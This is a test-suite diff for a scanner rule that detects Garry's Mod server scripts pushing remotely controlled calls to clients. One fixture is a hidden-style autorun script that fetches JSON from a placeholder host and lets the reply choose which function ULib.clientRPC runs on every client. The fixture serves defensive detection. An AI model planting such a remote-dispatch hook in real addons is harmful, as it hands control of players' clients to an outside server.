@@ -110,4 +110,30 @@ describe('client_code_push', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('a web reply that names the function every client calls through ULib.clientRPC', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_ads.lua': [
+        'timer.Create("ads", 300, 0, function()',
+        ' http.Fetch("https://feed.example.invalid/messages.json", function(body)',
+        '  local msg = util.JSONToTable(body)',
+        '  if msg then ULib.clientRPC(nil, msg.fn or "Ads.Show", unpack(msg.args or {})) end',
+        ' end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('a web reply shown by a fixed function through ULib.clientRPC', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_ads.lua': [
+        'timer.Create("ads", 300, 0, function()',
+        ' http.Fetch("https://feed.example.invalid/messages.json", function(body)',
+        '  local msg = util.JSONToTable(body)',
+        '  if msg then ULib.clientRPC(nil, "Ads.Show", tostring(msg.text)) end',
+        ' end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
